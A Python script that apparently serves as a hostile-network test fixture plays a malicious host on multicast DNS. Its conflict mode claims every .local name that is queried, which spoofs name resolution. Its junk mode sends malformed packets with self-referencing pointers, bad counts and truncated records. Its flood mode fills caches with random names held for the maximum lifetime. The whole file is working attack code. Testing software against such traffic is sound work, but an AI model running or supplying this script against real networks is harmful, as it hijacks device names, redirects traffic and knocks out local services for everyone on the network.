"""A hostile neighbour on the home's multicast DNS.

  mdns-conflict  claims every name that somebody asks for or wants to take
  mdns-junk      fifty broken packets a second: cut off, pointing at themselves, counting wrongly, random
  mdns-flood     a thousand names a second that nobody asked for, each another, to be remembered for ever
"""
import os
import random
import socket
import struct
import sys
import time

kind = sys.argv[1]
assert kind in ("mdns-conflict", "mdns-junk", "mdns-flood"), kind
GROUP = ("224.0.0.251", 5353)

with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
    probe.connect(GROUP)
    own = probe.getsockname()[0]
mouth = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
mouth.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
mouth.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
mouth.bind(("", 5353))
mouth.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, struct.pack("4s4s", socket.inet_aton(GROUP[0]), socket.inet_aton(own)))
mouth.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
mouth.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
mouth.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)


def names_asked(packet):
    """The names in the questions, each as it stands in a packet; pointers are followed a few steps."""
    def read(at, steps=4):
        name = b""
        while packet[at]:
            if packet[at] >= 0xc0:
                tail = read((packet[at] & 0x3f) << 8 | packet[at + 1], steps - 1)[0] if steps else b"\0"
                return name + tail, at + 2
            name += packet[at:at + 1 + packet[at]]
            at += 1 + packet[at]
        return name + b"\0", at + 1

    at, names = 12, set()
    try:
        for _ in range(struct.unpack("!H", packet[4:6])[0]):
            name, at = read(at)
            at += 4
            names.add(name)
    except IndexError:
        pass
    return names


def claim(name):
    head = struct.pack("!HHHHHH", 0, 0x8400, 0, 1, 0, 0)
    return head + name + struct.pack("!HHIH", 1, 0x8001, 120, 4) + socket.inet_aton(own)


def flood():
    """Ten names in one packet."""
    head = struct.pack("!HHHHHH", 0, 0x8400, 0, 10, 0, 0)
    return head + b"".join(
        b"\x3f" + os.urandom(31).hex().encode() + b"x\x05local\0" + struct.pack("!HHIH", 1, 1, 2**31 - 1, 4) + socket.inet_aton(own)
        for _ in range(10)
    )


def junk():
    name = b"\x07gluebox\x05local\x00"
    head = struct.pack("!HHHHHH", 0, 0x8400, 0, 1, 0, 0)
    return random.choice([
        os.urandom(random.randrange(1, 1400)),
        head + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 120, 4) + b"\x01\x02\x03\x04",
        head + name + struct.pack("!HHIH", 16, 1, 120, 65535) + b"\xff" * 200,
        struct.pack("!HHHHHH", 0, 0x8400, 65535, 65535, 65535, 65535) + name * 20,
        (head + name + struct.pack("!HHIH", 33, 0x8001, 2**32 - 1, 6))[:random.randrange(13, 40)],
        head + b"\x3f" + b"a" * 63 + b"\xc0\x0c" + struct.pack("!HHIH", 28, 0x8001, 0, 16) + own.encode(),
    ])


print("listening", flush=True)
while True:
    if kind == "mdns-junk":
        mouth.sendto(junk(), GROUP)
        time.sleep(0.02)
        continue
    if kind == "mdns-flood":
        mouth.sendto(flood(), GROUP)
        time.sleep(0.01)
        continue
    packet, who = mouth.recvfrom(9000)
    if who[0] == own or len(packet) < 12 or packet[2] & 0x80:
        continue
    for name in names_asked(packet):
        if name.endswith(b"\x05local\0") and not name[1:2] == b"_":
            mouth.sendto(claim(name), GROUP)
            print("claimed", name, "from", who[0], flush=True)
